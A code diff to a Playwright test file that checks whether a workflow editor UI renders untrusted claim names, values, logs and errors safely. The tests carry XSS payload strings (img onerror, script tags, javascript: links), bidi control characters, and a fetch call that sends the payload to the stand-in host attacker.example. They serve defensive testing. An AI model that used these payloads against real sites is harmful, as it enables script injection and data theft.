@@ -6,6 +6,10 @@ const MARKUP = "<img src=x onerror=\"globalThis.pwned='img'\"><script>globalThis
 const LINK = "[x](javascript:globalThis.pwned='link') javascript:globalThis.pwned=1";
 const BIDI = "\u202eevil\u2066\u200b\u0007";
 
+/** As the source writes it: what is invisible stands as an escape, so that what is seen comes from the run. */
+const written = (value: unknown) =>
+  JSON.stringify(value).replace(/[^\x20-\x7e]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`);
+
 function projectWith(body: string, files: readonly { name: string; text: string }[] = []) {
   const text = `${SETTINGS}\nconst set = (name, value) => kinde.accessToken.setCustomClaim(name, value);\nexport default async function Workflow(event) {\n${body}\n}\n`;
   return {
@@ -56,20 +60,20 @@ async function lookEverywhere(page: Page): Promise<string> {
 }
 
 const RENDERED = [
-  ["a claim’s name", `set(${JSON.stringify(MARKUP)}, 1); set(${JSON.stringify(BIDI)}, 1);`],
-  ["a claim’s value", `set("a", ${JSON.stringify([MARKUP, LINK, BIDI])});`],
-  ["a name within a claim", `set("a", { [${JSON.stringify(MARKUP)}]: { [${JSON.stringify(BIDI)}]: 1 } });`],
-  ["a claim that is prohibited", `set("sub", ${JSON.stringify(MARKUP + BIDI)});`],
+  ["a claim’s name", `set(${written(MARKUP)}, 1); set(${written(BIDI)}, 1);`],
+  ["a claim’s value", `set("a", ${written([MARKUP, LINK, BIDI])});`],
+  ["a name within a claim", `set("a", { [${written(MARKUP)}]: { [${written(BIDI)}]: 1 } });`],
+  ["a claim that is prohibited", `set("sub", ${written(MARKUP + BIDI)});`],
   [
     "a log",
-    `console.log(${JSON.stringify(MARKUP)}, ${JSON.stringify(BIDI)}, "%c", "color:red;background:url(https://attacker.example)");`,
+    `console.log(${written(MARKUP)}, ${written(BIDI)}, "%c", "color:red;background:url(https://attacker.example)");`,
   ],
-  ["a host call", `try { kinde.fetch("https://attacker.example/" + ${JSON.stringify(MARKUP + BIDI)}); } catch {}`],
-  ["a denial", `kinde.auth.denyAccess(${JSON.stringify(MARKUP + BIDI)});`],
-  ["an error", `const e = new Error(${JSON.stringify(MARKUP + BIDI)}); e.name = ${JSON.stringify(MARKUP)}; throw e;`],
+  ["a host call", `try { kinde.fetch("https://attacker.example/" + ${written(MARKUP + BIDI)}); } catch {}`],
+  ["a denial", `kinde.auth.denyAccess(${written(MARKUP + BIDI)});`],
+  ["an error", `const e = new Error(${written(MARKUP + BIDI)}); e.name = ${written(MARKUP)}; throw e;`],
   [
     "a function’s name in a stack",
-    `const o = { [${JSON.stringify(MARKUP)}]() { throw new Error("x"); } }; o[${JSON.stringify(MARKUP)}]();`,
+    `const o = { [${written(MARKUP)}]() { throw new Error("x"); } }; o[${written(MARKUP)}]();`,
   ],
 ] as const;
 
@@ -82,7 +86,6 @@ for (const [what, body] of RENDERED) {
       .locator("img[onerror], #root script, a[href^='javascript:'], iframe, object, embed")
       .count();
     expect(made).toBe(0);
-    // In the editors a person sees the source as it is written; there these characters stand as escapes.
     expect(seen).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u0007]/);
     expect(await page.title()).not.toMatch(/[<>\u202e\u2066]/);
     expect({ errors, foreign }).toEqual({ errors: [], foreign: [] });
